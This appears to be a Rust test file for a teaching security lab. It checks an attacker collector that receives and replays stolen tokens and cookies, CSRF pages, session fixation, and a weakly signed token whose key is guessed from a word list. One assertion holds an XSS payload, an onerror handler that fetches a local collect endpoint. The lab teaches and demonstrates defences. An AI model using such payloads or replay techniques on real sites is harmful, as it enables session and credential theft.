//! The security lab's server side: the attacker's collector (which replays what it stole
//! and files it under the visitor's lab ID only), the CSRF targets' reports, the
//! vulnerable page's headers, the CSP report sink, and where the attacker's site is.

use axum::{
    body::Body,
    http::{header, Request, StatusCode},
    response::Response,
    Router,
};
use serde_json::{json, Value};
use tower::ServiceExt;

use crate::common::{body_json, body_text, json_request, TestApp};

const LAB: &str = "labAAAAAAAAAAAAAAAAAA";
const OTHER_LAB: &str = "labBBBBBBBBBBBBBBBBBB";

fn attacker(app: &TestApp) -> Router {
    server::security_lab::attacker::router(app.state.clone())
}

async fn send(router: &Router, request: Request<Body>) -> Response {
    router.clone().oneshot(request).await.expect("infallible")
}

async fn loot(app: &TestApp, lab: &str) -> Vec<Value> {
    let response = app.get(&format!("/api/lab/loot/{lab}")).await;
    assert_eq!(response.status(), StatusCode::OK);
    body_json(response).await["entries"]
        .as_array()
        .unwrap()
        .clone()
}

/// The named fields of each entry, as a JSON array per entry (a missing field is null).
fn fields(entries: &[Value], keys: &[&str]) -> Vec<Value> {
    entries
        .iter()
        .map(|e| Value::Array(keys.iter().map(|k| e[*k].clone()).collect()))
        .collect()
}

fn collect(lab: &str, body: Value) -> Request<Body> {
    Request::post(format!("/collect?lab={lab}"))
        .header(header::CONTENT_TYPE, "text/plain;charset=UTF-8")
        .body(Body::from(body.to_string()))
        .unwrap()
}

#[tokio::test]
async fn the_collector_replays_a_stolen_token_and_only_its_visitor_sees_it() {
    let app = TestApp::new();
    let token = app.token_for("bob", "builder").await;
    // gloo-storage keeps the token as a JSON string, so the payload reads it with quotes.
    let stolen =
        json!({ "kind": "storage", "token": format!("\"{token}\""), "cookie": "auth_lab_lang=ko" });
    let response = send(&attacker(&app), collect(LAB, stolen)).await;
    assert_eq!(response.status(), StatusCode::NO_CONTENT);

    let entries = loot(&app, LAB).await;
    assert_eq!(entries.len(), 1);
    assert_eq!(entries[0]["kind"], "storage");
    assert_eq!(entries[0]["token"], token.as_str());
    assert_eq!(entries[0]["replays"][0]["request"], "GET /api/token/me");
    assert_eq!(entries[0]["replays"][0]["status"], 200);
    assert_eq!(entries[0]["replays"][0]["username"], "bob");
    assert_eq!(
        entries[0]["replays"].as_array().unwrap().len(),
        1,
        "no session cookie was readable"
    );

    assert_eq!(
        loot(&app, OTHER_LAB).await,
        Vec::<Value>::new(),
        "another visitor sees nothing"
    );
    let response = app.get("/api/lab/loot/short").await;
    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
    assert_eq!(body_json(response).await["error"], "invalid_lab_id");
}

#[tokio::test]
async fn a_readable_session_cookie_is_replayed_too_and_riding_reports_who_answered() {
    let app = TestApp::new();
    let login = app.session_login(None).await;
    let stolen = json!({ "kind": "storage", "token": null, "cookie": format!("theme=dark; {}", login.cookie) });
    send(&attacker(&app), collect(LAB, stolen)).await;
    let riding = json!({ "kind": "riding", "status": 200, "body": "{\"username\":\"alice\"}" });
    send(&attacker(&app), collect(LAB, riding)).await;
    let entries = loot(&app, LAB).await;
    assert_eq!(entries[0]["replays"][0]["request"], "GET /api/session/me");
    assert_eq!(entries[0]["replays"][0]["username"], "alice");
    assert_eq!(entries[1]["kind"], "session_riding");
    assert_eq!(entries[1]["username"], "alice");
}

#[tokio::test]
async fn the_collector_refuses_what_no_payload_sends() {
    let app = TestApp::new();
    for (lab, body) in [
        ("bad-id", json!({ "kind": "storage", "token": null })),
        (LAB, json!({ "kind": "other" })),
        (LAB, json!("just text")),
    ] {
        let response = send(&attacker(&app), collect(lab, body)).await;
        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
    }
    let huge = Request::post(format!("/collect?lab={LAB}"))
        .body(Body::from("x".repeat(20_000)))
        .unwrap();
    assert_eq!(
        send(&attacker(&app), huge).await.status(),
        StatusCode::PAYLOAD_TOO_LARGE
    );
    assert!(loot(&app, LAB).await.is_empty());
}

fn cross_site_form(path: &str, cookie: Option<&str>) -> Request<Body> {
    let mut request = Request::post(path)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .header(header::HOST, "127.0.0.1:3000")
        .header(header::ORIGIN, "http://localhost:3002")
        .header("sec-fetch-site", "cross-site");
    if let Some(cookie) = cookie {
        request = request.header(header::COOKIE, cookie);
    }
    request
        .body(Body::from("display_name=attacker+was+here"))
        .unwrap()
}

#[tokio::test]
async fn the_guarded_target_refuses_a_cross_site_post_and_the_twin_obeys_it() {
    let app = TestApp::new();
    let login = app.session_login(None).await;
    let guarded = format!("/api/session/display-name?lab={LAB}&channel=form");
    let response = app
        .send(cross_site_form(&guarded, Some(&login.cookie)))
        .await;
    assert_eq!(response.status(), StatusCode::FORBIDDEN);
    assert_eq!(body_json(response).await["error"], "cross_site_request");
    let me = body_json(app.session_me(&login.cookie).await).await;
    assert!(me.get("display_name").is_none(), "nothing changed: {me}");

    let unguarded = format!("/api/lab/unguarded/display-name?lab={LAB}&channel=fetch");
    let response = app
        .send(cross_site_form(&unguarded, Some(&login.cookie)))
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    let me = body_json(app.session_me(&login.cookie).await).await;
    assert_eq!(me["display_name"], "attacker was here");

    // Without the cookie (what SameSite=Lax does to a cross-site POST) even the twin fails.
    let response = app.send(cross_site_form(&unguarded, None)).await;
    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);

    let entries = loot(&app, LAB).await;
    let keys = ["guarded", "channel", "cookie_sent", "status", "reason"];
    assert_eq!(
        fields(&entries, &keys),
        vec![
            json!([true, "form", true, 403, "cross_site_request"]),
            json!([false, "fetch", true, 200, null]),
            json!([false, "fetch", false, 401, "no_cookie"]),
        ]
    );
    assert_eq!(entries[1]["changed_to"], "attacker was here");
    assert_eq!(entries[0]["fetch_site"], "cross-site");
}

#[tokio::test]
async fn the_token_twin_gets_no_bearer_header_from_another_site_whatever_the_cookies() {
    let app = TestApp::new();
    // A session cookie in the jar goes along with the cross-site form; it is not a bearer.
    let login = app.session_login(None).await;
    let path = format!("/api/lab/bearer/display-name?lab={LAB}&channel=form");
    let response = app.send(cross_site_form(&path, Some(&login.cookie))).await;
    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
    let challenge = response.headers()[header::WWW_AUTHENTICATE]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(challenge.starts_with("Bearer "), "{challenge}");
    assert_eq!(body_json(response).await["reason"], "missing");

    // The lab page's own call carries the token, and is answered with whose it is.
    let token = app.token_login(None).await["access_token"]
        .as_str()
        .unwrap()
        .to_owned();
    let own = Request::post(&path)
        .header(header::AUTHORIZATION, format!("Bearer {token}"))
        .body(Body::empty())
        .unwrap();
    let response = app.send(own).await;
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(body_json(response).await["username"], "bob");

    let entries = loot(&app, LAB).await;
    let keys = [
        "target",
        "authorization_sent",
        "cookie_sent",
        "status",
        "reason",
    ];
    assert_eq!(
        fields(&entries, &keys),
        vec![
            json!(["token", false, true, 401, "missing"]),
            json!(["token", true, false, 200, null]),
        ]
    );

    // The attacker's page aims there when asked to, and names no other target.
    let page = |query: &str| {
        Request::get(format!("/csrf?lab={LAB}&channel=fetch&guard=off&{query}"))
            .header(header::HOST, "localhost:3002")
            .body(Body::empty())
            .unwrap()
    };
    let html = body_text(send(&attacker(&app), page("target=token")).await).await;
    assert!(
        html.contains(&format!(
            "fetch('http://127.0.0.1:3000/api/lab/bearer/display-name?lab={LAB}&channel=fetch'"
        )),
        "{html}"
    );
    let bad = send(&attacker(&app), page("target=admin")).await;
    assert_eq!(bad.status(), StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn the_page_itself_renames_through_the_guarded_endpoint_and_bad_names_are_422() {
    let app = TestApp::new();
    let login = app.session_login(None).await;
    let rename = |name: Value| {
        json_request(
            "POST",
            "/api/session/display-name",
            &json!({ "display_name": name }),
            &[("cookie", login.cookie.as_str())],
        )
    };
    let response = app.send(rename(json!("  앨리스 "))).await;
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(body_json(response).await["display_name"], "앨리스");
    for bad in [json!(""), json!("x".repeat(41)), json!(7)] {
        let response = app.send(rename(bad.clone())).await;
        assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY, "{bad}");
    }
    // A same-origin form post is still refused: the real endpoint takes JSON only.
    let form = Request::post("/api/session/display-name")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .header(header::COOKIE, &login.cookie)
        .body(Body::from("display_name=x"))
        .unwrap();
    assert_eq!(
        app.send(form).await.status(),
        StatusCode::UNSUPPORTED_MEDIA_TYPE
    );
    assert!(
        loot(&app, LAB).await.is_empty(),
        "untagged requests report to nobody"
    );
}

async fn vulnerable(app: &TestApp, query: &str) -> Response {
    app.send(
        Request::get(format!("/security/vulnerable?{query}"))
            .header(header::HOST, "127.0.0.1:3000")
            .body(Body::empty())
            .unwrap(),
    )
    .await
}

#[tokio::test]
async fn the_vulnerable_page_carries_its_payload_raw_and_its_csp_only_when_asked() {
    let app = TestApp::new();
    let off = vulnerable(&app, &format!("payload=steal&lab={LAB}&csp=off")).await;
    assert_eq!(off.status(), StatusCode::OK);
    assert_eq!(off.headers()[header::X_FRAME_OPTIONS], "SAMEORIGIN");
    assert_eq!(
        off.headers()[header::CONTENT_SECURITY_POLICY],
        "frame-ancestors 'self'"
    );
    let html = body_text(off).await;
    assert!(
        html.contains("onerror=\"fetch('http://localhost:3002/collect?lab=labAAAAAAAAAAAAAAAAAA'"),
        "{html}"
    );
    assert!(html.contains("Vulnerable on purpose"));

    let on = vulnerable(&app, &format!("payload=ride&lab={LAB}&csp=on&lang=ko")).await;
    let policy = on.headers()[header::CONTENT_SECURITY_POLICY]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(policy.starts_with("default-src 'none';"), "{policy}");
    assert!(policy.contains(&format!("report-uri /api/lab/csp-report?lab={LAB}")));
    assert!(body_text(on).await.contains("lang=\"ko\""));

    for bad in [
        "payload=alert&csp=on",
        "payload=steal&csp=maybe",
        "payload=steal&csp=on&lab=%3Cx%3E",
    ] {
        let query = if bad.contains("lab=") {
            bad.to_owned()
        } else {
            format!("{bad}&lab={LAB}")
        };
        assert_eq!(
            vulnerable(&app, &query).await.status(),
            StatusCode::BAD_REQUEST,
            "{bad}"
        );
    }
    let no_attacker = app
        .send(
            Request::get(format!(
                "/security/vulnerable?payload=steal&lab={LAB}&csp=on"
            ))
            .header(header::HOST, "lab.example.com")
            .body(Body::empty())
            .unwrap(),
        )
        .await;
    assert_eq!(no_attacker.status(), StatusCode::CONFLICT);
}

#[tokio::test]
async fn a_browsers_csp_report_is_filed_under_its_lab() {
    let app = TestApp::new();
    let report = json!({ "csp-report": {
        "document-uri": "http://127.0.0.1:3000/security/vulnerable",
        "violated-directive": "script-src-elem",
        "effective-directive": "script-src-elem",
        "blocked-uri": "inline"
    }});
    let response = app
        .send(
            Request::post(format!("/api/lab/csp-report?lab={LAB}"))
                .header(header::CONTENT_TYPE, "application/csp-report")
                .body(Body::from(report.to_string()))
                .unwrap(),
        )
        .await;
    assert_eq!(response.status(), StatusCode::NO_CONTENT);
    let entries = loot(&app, LAB).await;
    assert_eq!(entries[0]["kind"], "csp_blocked");
    assert_eq!(entries[0]["directive"], "script-src-elem");
    assert_eq!(entries[0]["blocked"], "inline");
}

#[tokio::test]
async fn the_attacker_is_linked_under_the_other_loopback_name() {
    let app = TestApp::new();
    let site = |host: &'static str| {
        Request::get("/api/lab/attacker-site")
            .header(header::HOST, host)
            .body(Body::empty())
            .unwrap()
    };
    let local = body_json(app.send(site("127.0.0.1:3000")).await).await;
    assert_eq!(local["origin"], "http://localhost:3002");
    assert_eq!(local["lab_origin"], "http://127.0.0.1:3000");
    assert_eq!(local["same_site"], false);
    let named = body_json(app.send(site("localhost:3000")).await).await;
    assert_eq!(named["origin"], "http://127.0.0.1:3002");
    assert_ne!(named["new_lab_id"], local["new_lab_id"]);
    let elsewhere = body_json(app.send(site("lab.example.com")).await).await;
    assert_eq!(elsewhere["origin"], Value::Null);
    assert_eq!(elsewhere["same_site"], true);

    // The attacker's CSRF page aims at the lab under the other name, tagged with the lab ID.
    let page = send(
        &attacker(&app),
        Request::get(format!("/csrf?lab={LAB}&channel=form&guard=on"))
            .header(header::HOST, "localhost:3002")
            .body(Body::empty())
            .unwrap(),
    )
    .await;
    assert_eq!(page.status(), StatusCode::OK);
    let html = body_text(page).await;
    assert!(
        html.contains(&format!(
            "action=\"http://127.0.0.1:3000/api/session/display-name?lab={LAB}&channel=form\""
        )),
        "{html}"
    );
    let bad = send(
        &attacker(&app),
        Request::get(format!("/csrf?lab={LAB}&channel=carrier-pigeon&guard=on"))
            .header(header::HOST, "localhost:3002")
            .body(Body::empty())
            .unwrap(),
    )
    .await;
    assert_eq!(bad.status(), StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn a_planted_session_id_is_replaced_at_login_and_is_worthless_after() {
    let app = TestApp::new();
    let plant = app.post_json("/api/lab/fixation/plant", json!({})).await;
    assert_eq!(plant.status(), StatusCode::OK);
    let plant = body_json(plant).await;
    let planted = format!("auth_lab_sid={}", plant["session_id"].as_str().unwrap());
    // Before the victim logs in, the planted ID is the attacker's own live session.
    assert_eq!(
        body_json(app.session_me(&planted).await).await["username"],
        "bob"
    );

    let login = app
        .send(json_request(
            "POST",
            "/api/session/login",
            &crate::common::credentials("alice", None),
            &[("cookie", planted.as_str())],
        ))
        .await;
    assert_eq!(login.status(), StatusCode::OK);
    let trace = app.trace_of(&login).await;
    let cycled = crate::common::step(&trace, "session_id_cycled");
    assert!(cycled["detail"]
        .as_str()
        .unwrap()
        .contains(plant["hint"].as_str().unwrap()));
    let fresh = crate::common::cookie_pair(&crate::common::set_cookie(&login).unwrap());
    assert_ne!(fresh, planted);

    let replay = body_json(app.session_me(&planted).await).await;
    assert_eq!(
        replay["reason"], "unknown_session",
        "the attacker's copy is dead"
    );
    assert_eq!(
        body_json(app.session_me(&fresh).await).await["username"],
        "alice"
    );
    // Like every lab POST, planting refuses another site.
    let cross = app
        .send(json_request(
            "POST",
            "/api/lab/fixation/plant",
            &json!({}),
            &[("sec-fetch-site", "cross-site")],
        ))
        .await;
    assert_eq!(cross.status(), StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn the_careless_servers_token_is_signed_with_a_listed_word_and_refused_here() {
    use hmac::{Hmac, Mac};
    let app = TestApp::new();
    let response = app.post_json("/api/lab/weak-token", json!({})).await;
    assert_eq!(response.status(), StatusCode::OK);
    let token = body_json(response).await["token"]
        .as_str()
        .unwrap()
        .to_owned();
    let (input, signature) = token.rsplit_once('.').unwrap();
    let found = app::weak_keys::WORDS.iter().find(|word| {
        let mut mac = Hmac::<sha2::Sha256>::new_from_slice(word.as_bytes()).unwrap();
        mac.update(input.as_bytes());
        let expected = base64::Engine::encode(
            &base64::engine::general_purpose::URL_SAFE_NO_PAD,
            mac.finalize().into_bytes(),
        );
        expected == signature
    });
    assert!(found.is_some(), "signed with a word of the list");
    let refused = body_json(app.token_me(&format!("Bearer {token}")).await).await;
    assert_eq!(
        refused["reason"], "bad_signature",
        "this server never accepts it"
    );
}
